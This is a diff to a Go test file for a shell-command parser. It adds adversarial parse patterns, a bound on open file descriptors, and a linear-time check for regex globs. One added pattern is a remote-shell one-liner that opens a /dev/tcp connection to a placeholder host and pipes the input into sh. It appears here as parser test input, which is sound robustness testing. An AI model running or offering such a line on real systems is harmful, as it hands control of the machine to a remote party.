@@ -1,6 +1,7 @@
 package shell
 
 import (
+	"fmt"
 	"strings"
 	"testing"
 	"time"
@@ -101,6 +102,8 @@ func adversarial() []pattern {
 		{"escapes", "", "\\a", "", false},
 		{"select", "", "select x in a; do ", "", false},
 		{"zsh", "", "{ a }", "", false},
+		{"one descriptor again", "", "exec 3<>/dev/tcp/a/1;cat <&3|sh;", "", false},
+		{"groups of a regular expression", "find . -regex '", "(a|", "'", false},
 		{"function prefix", "", "function f { ", "", false},
 	}
 }
@@ -178,5 +181,53 @@ func checkSpans(t *testing.T, text string, s *Script) {
 				t.Errorf("command %d: pipe to %d", i, p)
 			}
 		}
+	}
+}
+
+func TestDescriptorsAreBounded(t *testing.T) {
+	for _, tt := range []struct {
+		name       string
+		n          int
+		same       bool
+		unreadable bool
+	}{
+		{"as many as may be", maxOpen, false, false},
+		{"one more", maxOpen + 1, false, true},
+		{"one number again", 10 * maxOpen, true, false},
+	} {
+		t.Run(tt.name, func(t *testing.T) {
+			var b strings.Builder
+			for i := range tt.n {
+				if tt.same {
+					i = 0
+				}
+				fmt.Fprintf(&b, "exec %d>x;", i+3)
+			}
+			if got := Read(b.String(), Options{}).Unreadable != nil; got != tt.unreadable {
+				t.Errorf("unreadable: %v", got)
+			}
+		})
+	}
+}
+
+func TestRegexGlobsAreLinear(t *testing.T) {
+	for _, tt := range []struct{ name, head, body, tail string }{
+		{"characters", "", "a", ""},
+		{"stars", "", ".*a", ""},
+		{"behind alternatives", "(a|b)(c|d)", "e", ""},
+		{"groups", "", "(a)", ""},
+		{"open groups", "", "(a|", ""},
+		{"groups in one another", strings.Repeat("(", maxInline), "a?b*", strings.Repeat(")", maxInline)},
+	} {
+		t.Run(tt.name, func(t *testing.T) {
+			moved := func(n int) int {
+				r := regexReader{re: tt.head + strings.Repeat(tt.body, n) + tt.tail, extended: true}
+				r.alternatives(0)
+				return r.moved
+			}
+			if few, many := moved(1000), moved(2000); many > 5*few/2+100 {
+				t.Errorf("%d bytes were moved for 1000, %d for 2000", few, many)
+			}
+		})
 	}
 }
